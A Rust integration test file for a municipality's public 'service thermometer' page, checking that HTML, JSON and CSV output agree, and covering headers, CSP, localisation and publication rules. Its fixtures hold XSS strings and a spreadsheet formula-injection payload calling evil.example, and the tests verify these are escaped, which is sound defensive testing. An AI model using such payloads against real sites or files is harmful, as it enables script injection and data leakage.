//! The public thermometer page over a real socket, on both backends: plain HTTP/1.1
//! GETs on the gRPC port answer `/thermometer/{tenant}` as HTML, `.json` and `.csv`,
//! and all three agree with GetThermometer for the period and for each period of the
//! trend; Dutch by default and English with `lang=en`; `embed=1` without chrome and
//! framable; a bad query is a 400 in the page's language; tenant-provided text is
//! escaped; the headers say what may be cached, framed and run; CSV cells a spreadsheet
//! would run as formulas are text. Only what a tenant publishes is public: an unpublished
//! norm is left out of the page, its JSON and CSV (GetThermometer and the dashboard still
//! show it), and a page not published answers exactly as an unknown tenant's.

use base64::Engine;
use midoffice_tests::http::{get, send};
use midoffice_tests::pb::{self, Channel};
use midoffice_tests::{Backend, TENANT, TestDatabase, database_test, date, on_backend, request};
use sha2::{Digest, Sha256};

/// What a hostile administrator might type: it must come out as text.
const HOSTILE_NAME: &str = "Gemeente <script>alert(1)</script> & \"Co\"";
const HOSTILE_EXPLANATION: &str =
    "Te druk, \"sorry\".\n<script>alert('x')</script><img src=x onerror=alert(1)>";
/// An explanation a spreadsheet would run as a formula, were it not written as text.
const FORMULA_EXPLANATION: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")";

/// A published page. Phone contacts from July to October 2026: every July call answered
/// within the norm's 25 seconds, fewer each month after (October: half), so the
/// statuses differ.
async fn fixture(b: &Backend) {
    b.change_settings(TENANT, |s| {
        s.public_page = Some(pb::PublicPage {
            published: true,
            display_name: HOSTILE_NAME.into(),
            logo_url: "https://www.gemeente-a.example/logo.svg".into(),
            accessibility_statement_url: "https://www.toegankelijkheidsverklaring.nl/register/1"
                .into(),
            primary_colour: "#0b5394".into(),
            // A house font and darker text, over the defaults.
            design_tokens: [
                ("font-family", "\"Gemeente Sans\", Arial, sans-serif"),
                ("text-color", "#000000"),
            ]
            .into_iter()
            .map(|(k, v)| (k.to_owned(), v.to_owned()))
            .collect(),
        });
        s.norms[0].explanation = HOSTILE_EXPLANATION.into();
        // The counter has no data: not green, so its explanation is shown.
        s.norms[1].explanation = FORMULA_EXPLANATION.into();
    })
    .await;
    for (month, slow) in [(7, 0), (8, 1), (9, 2), (10, 5)] {
        for i in 0..10 {
            let day = 1 + i * 2;
            let started = format!("2026-{month:02}-{day:02}T09:00:00Z");
            let wait = if i < slow { 90 } else { 10 };
            let answered = format!(
                "2026-{month:02}-{day:02}T09:{:02}:{:02}Z",
                wait / 60,
                wait % 60
            );
            let ended = format!("2026-{month:02}-{day:02}T09:10:00Z");
            let mut contact = midoffice_tests::start(Channel::Phone, &started, None, "afval");
            contact.department = "kcc".into();
            b.record(
                TENANT,
                pb::RecordContactRequest {
                    request_id: String::new(),
                    start: Some(contact),
                    completion: Some(midoffice_tests::resolved(&answered, &ended, "Vraag.")),
                    context_seen: false,
                },
            )
            .await;
        }
    }
}

/// GetThermometer for a month of 2026.
async fn thermometer(b: &Backend, tenant: &str, month: i32) -> Vec<pb::NormResult> {
    b.figures()
        .get_thermometer(request(
            tenant,
            pb::GetThermometerRequest {
                period: Some(pb::Period {
                    start_date: Some(date(2026, month, 1)),
                    end_date: Some(date(2026, month + 1, 1)),
                    as_of: None,
                }),
            },
        ))
        .await
        .unwrap_or_else(|s| panic!("GetThermometer failed: {s:?}"))
        .into_inner()
        .norms
}

fn status_name(status: i32) -> &'static str {
    match pb::NormStatus::try_from(status).expect("a known status") {
        pb::NormStatus::Green => "GREEN",
        pb::NormStatus::Amber => "AMBER",
        pb::NormStatus::Red => "RED",
        pb::NormStatus::NoData => "NO_DATA",
        pb::NormStatus::Unspecified => panic!("an unspecified status"),
    }
}

/// A JSON result (the norm or a trend point) agrees with GetThermometer's.
fn assert_agrees(json: &serde_json::Value, r: &pb::NormResult, what: &str) {
    assert_eq!(json["met"], r.met, "{what}: met");
    assert_eq!(json["items"], r.items, "{what}: items");
    assert_eq!(json["status"], status_name(r.status), "{what}: status");
    match r.share {
        Some(s) => assert_eq!(json["share"].as_f64(), Some(s), "{what}: share"),
        None => assert!(json["share"].is_null(), "{what}: share"),
    }
}

/// Parses RFC 4180 CSV (quoted fields with doubled quotes, CRLF row ends).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "a CRLF row end");
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        field.is_empty() && row.is_empty(),
        "the last row ends with CRLF"
    );
    rows
}

const OCTOBER: &str = "from=2026-10-01&to=2026-10-31";

database_test!(html_json_and_csv_agree_with_get_thermometer);
async fn html_json_and_csv_agree_with_get_thermometer(database: TestDatabase) {
    on_backend(database, |b| async move {
        fixture(&b).await;
        let october = thermometer(&b, TENANT, 10).await;
        let earlier = [
            thermometer(&b, TENANT, 9).await,
            thermometer(&b, TENANT, 8).await,
            thermometer(&b, TENANT, 7).await,
        ];
        assert_eq!(october[0].norm_id, "phone-answered");
        assert_eq!((october[0].met, october[0].items), (5, 10));
        assert_eq!(status_name(october[0].status), "RED");

        // JSON.
        let a = get(&b, &format!("/thermometer/{TENANT}.json?{OCTOBER}")).await;
        assert_eq!(a.status, 200, "{}", a.body);
        assert_eq!(
            a.header("content-type"),
            Some("application/json; charset=utf-8")
        );
        assert_eq!(a.header("cache-control"), Some("public, max-age=60"));
        assert_eq!(a.header("x-content-type-options"), Some("nosniff"));
        assert_eq!(a.header("access-control-allow-origin"), Some("*"));
        let json: serde_json::Value = serde_json::from_str(&a.body).expect("JSON");
        assert_eq!(json["tenant"], TENANT);
        assert_eq!(json["name"], HOSTILE_NAME);
        assert_eq!(json["period"]["from"], "2026-10-01");
        assert_eq!(json["period"]["to"], "2026-10-31");
        let norms = json["norms"].as_array().expect("norms");
        assert_eq!(norms.len(), october.len());
        for (j, r) in norms.iter().zip(&october) {
            assert_eq!(j["id"], r.norm_id);
            assert_eq!(j["title"], r.title);
            assert_eq!(j["target_percent"], r.target_percent);
            assert_agrees(j, r, &r.norm_id);
            let explanation = (!r.explanation.is_empty()).then_some(r.explanation.as_str());
            assert_eq!(j["explanation"].as_str(), explanation, "{}", r.norm_id);
            let trend = j["trend"].as_array().expect("a trend");
            assert_eq!(trend.len(), 3, "{}", r.norm_id);
            for (k, (point, month)) in trend.iter().zip(&earlier).enumerate() {
                let m = 9 - k;
                assert_eq!(point["period"]["from"], format!("2026-{m:02}-01"));
                let e = month.iter().find(|e| e.norm_id == r.norm_id).unwrap();
                assert_agrees(point, e, &format!("{} in month {m}", r.norm_id));
            }
        }
        assert_eq!(norms[0]["explanation"], HOSTILE_EXPLANATION);
        // JSON is not a spreadsheet: the text as the tenant wrote it.
        assert_eq!(norms[1]["explanation"], FORMULA_EXPLANATION);
        assert_eq!(norms[0]["trend"][2]["status"], "GREEN");

        // CSV: a row per norm for October and each earlier month.
        let a = get(&b, &format!("/thermometer/{TENANT}.csv?{OCTOBER}")).await;
        assert_eq!(a.status, 200, "{}", a.body);
        assert_eq!(
            a.header("content-type"),
            Some("text/csv; charset=utf-8; header=present")
        );
        let rows = parse_csv(&a.body);
        assert_eq!(
            rows[0].join(","),
            "period_from,period_to,norm_id,title,measure,target_percent,share,met,items,\
             status,explanation"
        );
        assert_eq!(rows.len(), 1 + 4 * october.len());
        for (k, month) in std::iter::once(&october).chain(&earlier).enumerate() {
            for (i, r) in month.iter().enumerate() {
                let row = &rows[1 + k * october.len() + i];
                assert_eq!(row[0], format!("2026-{:02}-01", 10 - k));
                assert_eq!(row[2], r.norm_id);
                assert_eq!(row[3], r.title);
                assert_eq!(row[5], r.target_percent.to_string());
                assert_eq!(row[6], r.share.map(|s| s.to_string()).unwrap_or_default());
                assert_eq!(row[7], r.met.to_string());
                assert_eq!(row[8], r.items.to_string());
                assert_eq!(row[9], status_name(r.status));
                // Text a spreadsheet would run starts with an apostrophe.
                let formula = r.explanation.starts_with(['=', '+', '-', '@']);
                let written = if formula {
                    format!("'{}", r.explanation)
                } else {
                    r.explanation.clone()
                };
                assert_eq!(row[10], written);
            }
        }
        assert_eq!(october[1].explanation, FORMULA_EXPLANATION);
        assert_eq!(rows[2][10], format!("'{FORMULA_EXPLANATION}"));
        assert!(
            a.body
                .contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Klik\"\")\""),
            "{}",
            a.body
        );

        // HTML, in Dutch.
        let a = get(&b, &format!("/thermometer/{TENANT}?{OCTOBER}")).await;
        assert_eq!(a.status, 200, "{}", a.body);
        assert_eq!(a.header("content-type"), Some("text/html; charset=utf-8"));
        assert_eq!(a.header("cache-control"), Some("public, max-age=60"));
        assert_eq!(a.header("x-frame-options"), Some("DENY"));
        let csp = a.header("content-security-policy").expect("a CSP");
        assert!(
            !csp.contains("unsafe-inline") && !csp.contains("script-src"),
            "{csp}"
        );
        assert!(csp.contains("default-src 'none'"), "{csp}");
        assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
        // The one style block is allowed by its hash.
        let style = a
            .body
            .split("<style>")
            .nth(1)
            .unwrap()
            .split("</style>")
            .next()
            .unwrap();
        let hash = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(style));
        assert!(csp.contains(&format!("style-src 'sha256-{hash}'")), "{csp}");
        // The tenant's theme, declared after the defaults so that it wins.
        let theme = style.rsplit_once(":root{").unwrap().1;
        assert!(
            theme.contains("--midoffice-thermometer-primary-color:#0b5394;"),
            "{style}"
        );
        assert!(
            theme.contains("--midoffice-thermometer-text-color:#000000;"),
            "{style}"
        );
        assert!(
            theme.contains(
                "--midoffice-thermometer-font-family:\"Gemeente Sans\", Arial, sans-serif;"
            ),
            "{style}"
        );
        let html = &a.body;
        assert!(html.contains("<html lang=\"nl\">"));
        assert!(
            !html.to_lowercase().contains("<script"),
            "raw script in the page"
        );
        assert!(!html.contains("<img src=x"), "raw markup in the page");
        assert!(
            html.contains("Gemeente &lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;Co&quot;")
        );
        assert!(html.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"));
        assert!(html.contains("Servicethermometer"));
        assert!(html.contains("oktober 2026"));
        assert!(html.contains("50,0%"), "October's phone share");
        assert!(html.contains("Niet gehaald"));
        assert!(html.contains("Gehaald"));
        assert!(html.contains("september 2026") && html.contains("juli 2026"));
        assert!(html.contains("href=\"https://www.toegankelijkheidsverklaring.nl/register/1\""));
        assert!(html.contains("<img src=\"https://www.gemeente-a.example/logo.svg\" alt=\"\">"));
        assert!(
            html.contains("href=\"?from=2026-09-01&amp;to=2026-09-30\""),
            "previous month"
        );
        assert!(
            html.contains("href=\"?from=2026-07-01&amp;to=2026-09-30\""),
            "previous quarter"
        );
        assert!(
            html.contains("href=\"?from=2025-01-01&amp;to=2025-12-31\""),
            "previous year"
        );
        for r in &october {
            assert!(html.contains(&format!("{}</h3>", r.title)), "{}", r.norm_id);
        }
        assert!(html.contains("<header") && html.contains("<footer"));

        // English.
        let a = get(&b, &format!("/thermometer/{TENANT}?{OCTOBER}&lang=en")).await;
        assert_eq!(a.status, 200, "{}", a.body);
        assert_eq!(a.header("content-language"), Some("en"));
        assert!(a.body.contains("<html lang=\"en\">"));
        assert!(a.body.contains("Service thermometer"));
        assert!(a.body.contains("October 2026"));
        assert!(a.body.contains("50.0%") && a.body.contains("Not met"));
        assert!(
            a.body
                .contains("href=\"?from=2026-09-01&amp;to=2026-09-30&amp;lang=en\"")
        );

        // Embedded: no chrome, framable over https, links stay embedded.
        let a = get(&b, &format!("/thermometer/{TENANT}?{OCTOBER}&embed=1")).await;
        assert_eq!(a.status, 200, "{}", a.body);
        assert!(!a.body.contains("<header") && !a.body.contains("<footer"));
        assert!(!a.body.contains("class=\"skip\""));
        assert_eq!(a.header("x-frame-options"), None);
        let csp = a.header("content-security-policy").unwrap();
        assert!(csp.contains("frame-ancestors https:"), "{csp}");
        assert!(a.body.contains("&amp;embed=1\""));

        // The current month by default; gRPC on the same port still answers.
        let a = get(&b, &format!("/thermometer/{TENANT}.json")).await;
        assert_eq!(a.status, 200, "{}", a.body);
        let json: serde_json::Value = serde_json::from_str(&a.body).unwrap();
        let from = json["period"]["from"].as_str().unwrap();
        assert!(from.ends_with("-01"), "{from}");
        assert_eq!(thermometer(&b, TENANT, 10).await, october);
    })
    .await;
}

database_test!(bad_requests_are_refused_in_plain_words);
async fn bad_requests_are_refused_in_plain_words(database: TestDatabase) {
    on_backend(database, |b| async move {
        let a = get(
            &b,
            &format!("/thermometer/{TENANT}?from=2026-02-30&to=2026-03-31"),
        )
        .await;
        assert_eq!(a.status, 400, "{}", a.body);
        assert_eq!(a.header("content-type"), Some("text/plain; charset=utf-8"));
        assert!(a.body.contains("from is geen datum"), "{}", a.body);
        let a = get(
            &b,
            &format!("/thermometer/{TENANT}.json?lang=en&from=2026-03-31&to=2026-03-01"),
        )
        .await;
        assert_eq!(a.status, 400, "{}", a.body);
        assert!(a.body.contains("to must not lie before from"), "{}", a.body);
        let a = get(&b, &format!("/thermometer/{TENANT}.csv?from=2026-03-01")).await;
        assert_eq!(a.status, 400, "{}", a.body);
        let a = get(&b, &format!("/thermometer/{TENANT}?lang=fy")).await;
        assert_eq!(a.status, 400, "{}", a.body);
        let a = get(&b, &format!("/thermometer/{TENANT}?embed=yes&lang=en")).await;
        assert_eq!(a.status, 400, "{}", a.body);
        assert!(a.body.contains("embed must be 0 or 1"), "{}", a.body);
        for path in [
            "/thermometer/Gemeente_A",
            "/thermometer/gemeente-a/extra",
            "/thermometer",
            "/thermometer/",
            "/thermometer/gemeente-a.xml",
            "/thermometer/%3Cscript%3E",
        ] {
            let a = get(&b, path).await;
            assert_eq!(a.status, 404, "{path}: {}", a.body);
            assert!(!a.body.contains('<'), "{path}: {}", a.body);
        }
        // The queries above were refused before publishing was looked at; a page is
        // found once the tenant publishes it.
        b.change_settings(TENANT, |s| {
            s.public_page.get_or_insert_default().published = true;
        })
        .await;
        let a = send(&b, "HEAD", &format!("/thermometer/{TENANT}.csv")).await;
        assert_eq!(a.status, 200, "{}", a.body);
        assert_eq!(a.body, "", "HEAD has no body");
        let a = send(&b, "POST", &format!("/thermometer/{TENANT}")).await;
        assert_eq!(a.status, 405, "{}", a.body);
        assert_eq!(a.header("allow"), Some("GET, HEAD"));
        // A tenant without settings or contacts has not published a page.
        let a = get(
            &b,
            "/thermometer/gemeente-nergens.json?from=2026-10-01&to=2026-10-31",
        )
        .await;
        assert_eq!(a.status, 404, "{}", a.body);
    })
    .await;
}

/// The parts of an answer a stranger could compare: status, body and headers.
fn seen(a: &midoffice_tests::http::Answer) -> (u16, String, Vec<(String, String)>) {
    let mut headers: Vec<(String, String)> = a
        .headers
        .iter()
        .filter(|(name, _)| !name.eq_ignore_ascii_case("date"))
        .cloned()
        .collect();
    headers.sort();
    (a.status, a.body.clone(), headers)
}

database_test!(only_published_norms_of_a_published_page_are_public);
async fn only_published_norms_of_a_published_page_are_public(database: TestDatabase) {
    on_backend(database, |b| async move {
        fixture(&b).await;
        let hidden = "email-answered";
        b.change_settings(TENANT, |s| {
            let norm = s.norms.iter_mut().find(|n| n.id == hidden).unwrap();
            norm.published = Some(false);
        })
        .await;
        let settings = b.settings(TENANT).await;
        let norm = settings.norms.iter().find(|n| n.id == hidden).unwrap();
        assert_eq!(
            norm.published,
            Some(false),
            "the admin API keeps the choice"
        );
        assert!(settings.public_page.unwrap().published);
        let title = norm.title.clone();

        // GetThermometer shows every norm, the unpublished one too.
        let october = thermometer(&b, TENANT, 10).await;
        assert_eq!(october.len(), 8);
        assert!(october.iter().any(|r| r.norm_id == hidden));

        // The page, its JSON and its CSV leave it out, in every period of the trend.
        let a = get(&b, &format!("/thermometer/{TENANT}.json?{OCTOBER}")).await;
        assert_eq!(a.status, 200, "{}", a.body);
        let json: serde_json::Value = serde_json::from_str(&a.body).unwrap();
        let ids: Vec<&str> = json["norms"]
            .as_array()
            .unwrap()
            .iter()
            .map(|n| n["id"].as_str().unwrap())
            .collect();
        let published: Vec<&str> = october
            .iter()
            .map(|r| r.norm_id.as_str())
            .filter(|id| *id != hidden)
            .collect();
        assert_eq!(ids, published);
        let a = get(&b, &format!("/thermometer/{TENANT}.csv?{OCTOBER}")).await;
        assert_eq!(a.status, 200, "{}", a.body);
        let rows = parse_csv(&a.body);
        assert_eq!(rows.len(), 1 + 4 * 7, "7 norms in 4 periods");
        assert!(rows.iter().all(|r| r[2] != hidden), "{}", a.body);
        assert!(!a.body.contains(hidden) && !a.body.contains(&title));
        for lang in ["", "&lang=en", "&embed=1"] {
            let a = get(&b, &format!("/thermometer/{TENANT}?{OCTOBER}{lang}")).await;
            assert_eq!(a.status, 200, "{}", a.body);
            assert!(!a.body.contains(&title), "{lang}: {}", a.body);
            assert!(a.body.contains(&october[0].title), "{lang}");
            assert_eq!(
                a.body.matches("<section class=\"norm ").count(),
                7,
                "{lang}"
            );
        }
        // The dashboard, for credentialed users (open to loopback here), shows it.
        let a = get(
            &b,
            &format!("/dashboard/{TENANT}?from=2026-07-01&to=2026-10-31"),
        )
        .await;
        assert_eq!(a.status, 200, "{}", a.body);
        assert!(a.body.contains(&title), "the dashboard shows every norm");

        // A page not published answers as a tenant that does not exist, on every
        // address and in either language: nothing tells the two apart.
        b.change_settings(TENANT, |s| {
            s.public_page.as_mut().unwrap().published = false;
        })
        .await;
        for rest in [
            "",
            ".json",
            ".csv",
            "?lang=en",
            ".csv?from=2026-10-01&to=2026-10-31",
        ] {
            let unpublished = get(&b, &format!("/thermometer/{TENANT}{rest}")).await;
            let unknown = get(&b, &format!("/thermometer/gemeente-nergens{rest}")).await;
            assert_eq!(unpublished.status, 404, "{rest}: {}", unpublished.body);
            assert!(!unpublished.body.contains(HOSTILE_NAME), "{rest}");
            assert_eq!(seen(&unpublished), seen(&unknown), "{rest}");
        }
        let a = send(&b, "HEAD", &format!("/thermometer/{TENANT}")).await;
        assert_eq!(a.status, 404);
        // The figures stay for credentialed users.
        assert_eq!(thermometer(&b, TENANT, 10).await, october);

        // Published again, the page is back as it was.
        b.change_settings(TENANT, |s| {
            s.public_page.as_mut().unwrap().published = true;
        })
        .await;
        let a = get(&b, &format!("/thermometer/{TENANT}.json?{OCTOBER}")).await;
        assert_eq!(a.status, 200, "{}", a.body);
    })
    .await;
}

database_test!(a_named_tenant_taking_part_links_to_its_benchmark_group);
async fn a_named_tenant_taking_part_links_to_its_benchmark_group(database: TestDatabase) {
    on_backend(database, |b| async move {
        fixture(&b).await;
        let page = |lang: &'static str| {
            let b = b.clone();
            async move {
                get(&b, &format!("/thermometer/{TENANT}?{OCTOBER}{lang}"))
                    .await
                    .body
            }
        };
        // The last month whose group is due today: composable whenever this runs.
        let month = midoffice_domain::benchmark::latest_composable(
            chrono::Utc::now(),
            midoffice_domain::benchmark::DEFAULT_GRACE_DAYS,
        )[0]
        .key();
        let row = format!("/benchmark/g-link?period={month}#deelnemer-{TENANT}");
        // Not taking part: no link.
        assert!(!page("").await.contains("/benchmark/"));
        let take_part = |tenant: &'static str, named: bool| {
            let b = b.clone();
            async move {
                b.change_settings(tenant, |s| {
                    s.benchmark = Some(pb::BenchmarkParticipation {
                        opted_in: true,
                        size: 40_000,
                        peer_group: "g-link".into(),
                        named,
                        ..Default::default()
                    });
                })
                .await;
            }
        };
        take_part(TENANT, true).await;
        // Four others, not named: a group of five, large enough to be spoken of.
        for other in ["g-link-b", "g-link-c", "g-link-d", "g-link-e"] {
            take_part(other, false).await;
        }
        // Taking part, but no period of its group is composed yet: no page to link to.
        assert!(!page("").await.contains("/benchmark/"));
        pb::benchmark_service_client::BenchmarkServiceClient::new(b.channel())
            .get_benchmark(request(
                TENANT,
                pb::GetBenchmarkRequest {
                    period: month.clone(),
                    peer_group: String::new(),
                },
            ))
            .await
            .expect("GetBenchmark composes the month's group");
        // Named: to its own row of that month, in Dutch and in English, outside a frame;
        // the row is there.
        let nl = page("").await;
        assert!(
            nl.contains(&format!("href=\"{row}\" target=\"_top\"")),
            "{nl}"
        );
        assert!(nl.contains("Onze cijfers naast die van vergelijkbare organisaties"));
        let en = page("&lang=en").await;
        assert!(
            en.contains(&format!(
                "href=\"/benchmark/g-link?period={month}&amp;lang=en#deelnemer-{TENANT}\""
            )),
            "{en}"
        );
        assert!(en.contains("Our figures beside those of similar organisations"));
        let group = get(&b, &format!("/benchmark/g-link?period={month}")).await;
        assert_eq!(group.status, 200);
        assert!(
            group.body.contains(&format!("id=\"deelnemer-{TENANT}\"")),
            "{}",
            group.body
        );
        // Not named: no link at all, so the page does not tell that it takes part; and
        // its row is gone from the group's page (the choice is taken when read).
        b.change_settings(TENANT, |s| {
            s.benchmark.as_mut().unwrap().named = false;
        })
        .await;
        let nl = page("").await;
        assert!(!nl.contains("/benchmark/"), "{nl}");
        assert!(!nl.contains("vergelijkbare organisaties"), "{nl}");
        let group = get(&b, &format!("/benchmark/g-link?period={month}")).await;
        assert!(!group.body.contains("deelnemer-"), "{}", group.body);
    })
    .await;
}

/// The page in headless Chromium with axe-core (`tests/browser/thermometer.mjs`): no
/// WCAG 2.1 A/AA violation, readable at 320 and 1280 px, a visible focus, no script
/// needed; screenshots go to `target/browser-artifacts` (or `THERMOMETER_ARTIFACTS`).
/// Ignored by default, as it needs Chromium (`CHROMIUM`, default `/usr/bin/chromium`)
/// and `npm ci` in `tests/browser`; `.ci/run` installs both and runs it. The dashboard's
/// browser test runs on the demo's data: `crates/midoffice/tests/demo.rs`.
#[tokio::test]
#[ignore = "needs Chromium and the npm packages of tests/browser; .ci/run runs it"]
async fn browser() {
    on_backend(TestDatabase::Sqlite, |b| async move {
        fixture(&b).await;
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
        let artifacts = std::env::var("THERMOMETER_ARTIFACTS").unwrap_or_else(|_| {
            dir.join("../target/browser-artifacts")
                .to_string_lossy()
                .into_owned()
        });
        let page = format!("{}/thermometer/{TENANT}", b.url());
        let script = dir.join("browser/thermometer.mjs");
        let status = tokio::task::spawn_blocking(move || {
            std::process::Command::new("node")
                .arg(script)
                .arg(page)
                .arg(OCTOBER)
                .arg(artifacts)
                .status()
        })
        .await
        .expect("the browser task")
        .expect("node runs");
        assert!(status.success(), "the browser checks failed: {status}");
    })
    .await;
}
